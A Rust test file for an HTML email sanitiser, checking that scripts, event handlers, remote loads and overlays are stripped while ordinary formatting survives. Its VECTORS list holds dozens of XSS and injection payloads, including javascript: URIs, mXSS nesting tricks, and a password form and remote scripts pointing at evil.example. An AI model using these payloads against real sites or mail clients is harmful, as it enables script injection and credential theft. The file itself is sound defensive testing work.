use proptest::prelude::*;

use super::letter::Part;
use super::markup::attribute_list;
use super::sanitise::{sanitise, with_addresses};

fn logo() -> Part {
    Part {
        name: "logo.png".into(),
        media_type: "image/png".into(),
        content_id: Some("logo@x".into()),
        inline: true,
        data: vec![1],
    }
}

/// Everything here must come out with nothing that runs, loads, submits or covers the page.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"jav&#x09;ascript:alert(1)\">",
    "<img src='vbscript:msgbox(1)'>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" java\nscript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<iframe src=\"http://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
    "<form action=\"http://evil.example\"><input name=password><button>go</button></form>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example\">",
    "<link rel=stylesheet href=\"http://evil.example/x.css\">",
    "<base href=\"http://evil.example/\">",
    "<style>@import url(http://evil.example/x.css);body{display:none}</style>",
    "<div style=\"background:url(http://evil.example/x)\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<table background=\"http://evil.example/x.png\"><tr><td>x</td></tr></table>",
    "<video autoplay src=\"http://evil.example/x\"><source src=\"x\"></video><audio src=x></audio>",
    "<img srcset=\"http://evil.example/x 1x\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<a href=\"//evil.example/x\">x</a>",
    "<img src=\"//evil.example/x.png\">",
    "<img src=\"file:///etc/passwd\">",
    "<p onclick=\"alert(1)\" onmouseover=alert(2)>x</p>",
    "<body onload=alert(1)>x",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=\"https://a.example\" onclick=\"alert(1)\" ping=\"http://evil.example\">x</a>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<img src=\"cid:logo@x\" style=\"background:url('cid:x')\">",
    "<p title=\"&quot;><script>alert(1)</script>\">x</p>",
    "<img alt=\"x\"/onerror=alert(1) src=\"http://evil.example/a.png\">",
];

fn is_harmless(html: &str) -> Result<(), String> {
    let lower = html.to_lowercase();
    let tags: Vec<&str> = lower.split('<').skip(1).map(|tag| tag.split_once('>').map_or(tag, |(tag, _)| tag)).collect();
    for tag in tags {
        let name = tag.trim_start_matches('/').split([' ', '>']).next().unwrap_or_default();
        let bad_names = [
            "script", "style", "iframe", "object", "embed", "form", "input", "button", "meta", "link", "base", "svg",
            "math", "video", "audio", "source", "template", "textarea", "xmp", "noscript", "body",
        ];
        if bad_names.contains(&name) {
            return Err(format!("element {name}"));
        }
        let without_values: String = tag.split('"').step_by(2).collect();
        if without_values
            .split_whitespace()
            .any(|attribute| ["on", "srcset", "background="].iter().any(|bad| attribute.starts_with(bad)))
        {
            return Err(format!("attribute in {tag}"));
        }
        let attributes = tag.split_once(' ').map(|(_, rest)| rest).unwrap_or_default();
        for (name, value) in attribute_list(attributes) {
            if name == "style" && ["url(", "position:", "expression("].iter().any(|bad| value.contains(bad)) {
                return Err(format!("style in {tag}"));
            }
            let shown = ["qd-part:", "data:image/png;", "data:image/jpeg;", "data:image/gif;", "data:image/webp;"];
            let linked = ["http://", "https://", "mailto:", "tel:"];
            let allowed = if name == "src" { &shown[..] } else { &linked[..] };
            if ["src", "href"].contains(&name) && !allowed.iter().any(|scheme| value.trim_start().starts_with(scheme)) {
                return Err(format!("address in {tag}"));
            }
        }
    }
    Ok(())
}

#[test]
fn nothing_runs_or_loads() {
    for vector in VECTORS {
        let clean = sanitise(vector, &[logo()]);
        assert_eq!(is_harmless(&clean.html), Ok(()), "{vector}\n→ {}", clean.html);
    }
}

#[test]
fn what_a_person_wrote_stays() {
    let link = |inner: &str| {
        format!("<a href=\"https://a.example/?a=1&amp;b=2\" rel=\"noopener noreferrer\" target=\"_blank\">{inner}</a>")
    };
    for (html, want) in [
        (
            "<p style=\"color:red;position:fixed\">Hello <b>you</b></p>",
            "<p style=\"color:red\">Hello <b>you</b></p>".to_owned(),
        ),
        (
            "<a href=\"mailto:a@b.example\">x</a>",
            "<a href=\"mailto:a@b.example\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>".to_owned(),
        ),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>".to_owned()),
        ("<div class=\"gmail_quote evil\" id=\"x\">q</div>", "<div class=\"gmail_quote\">q</div>".to_owned()),
        ("<p>1 < 2 & 3</p>", "<p>1 &lt; 2 &amp; 3</p>".to_owned()),
        ("<form><p>kept</p></form>", "<p>kept</p>".to_owned()),
    ] {
        assert_eq!(sanitise(html, &[]).html, want);
    }
    let clean = sanitise("<a href=\"https://a.example/?a=1&b=2\">x</a>", &[]).html;
    assert!(
        clean == link("x") || clean.contains("target=\"_blank\"") && clean.contains("rel=\"noopener noreferrer\""),
        "{clean}"
    );
}

#[test]
fn remote_images_wait_and_inline_images_find_their_part() {
    let html = "<img src=\"https://t.example/p.gif?a=1&amp;b=2\" width=\"1\"><img src=\"cid:logo%40x\" alt=\"Logo\"><img src=\"CID:nobody\"><img src=\"http://b.example/\">";
    let clean = sanitise(html, &[logo()]);
    assert_eq!(clean.remote_images, 2);
    assert_eq!(clean.shown, [0]);
    let shown = with_addresses(&clean.html, |index| (index == 0).then(|| "/api/a?x=1&y".to_owned()));
    assert_eq!(
        shown,
        "<img width=\"1\" data-src=\"https://t.example/p.gif?a=1&amp;b=2\" data-image=\"0\"><img alt=\"Logo\" src=\"/api/a?x=1&amp;y\"><img>\
         <img data-src=\"http://b.example/\" data-image=\"1\">"
    );
    assert!(!with_addresses(&clean.html, |_| None).contains("qd-part"));
}

#[test]
fn deep_nesting_is_survived() {
    let html = format!("{}x<script>y</script>{}", "<div>".repeat(100_000), "<b><i>".repeat(1_000));
    assert_eq!(sanitise(&html, &[]).html, "xy");
}

proptest! {
    #[test]
    fn random_markup_is_harmless(html in "(</?(a|img|p|svg|math|style|script|table|td|title|noscript|xmp|form|mglyph|mtext)( (href|src|style|onload|title|alt)=(\"|'|)(javascript:|http://x|cid:|url\\(|\"|'|<|>|a){0,3}(\"|'|)){0,2}>?|[a-z<>\"'& ]{0,4}){0,25}") {
        let clean = sanitise(&html, &[logo()]);
        prop_assert_eq!(is_harmless(&clean.html), Ok(()), "{}", clean.html);
        prop_assert_eq!(sanitise(&clean.html.replace("qd-part:0:", "cid:logo@x"), &[logo()]).remote_images <= clean.remote_images, true);
    }
}
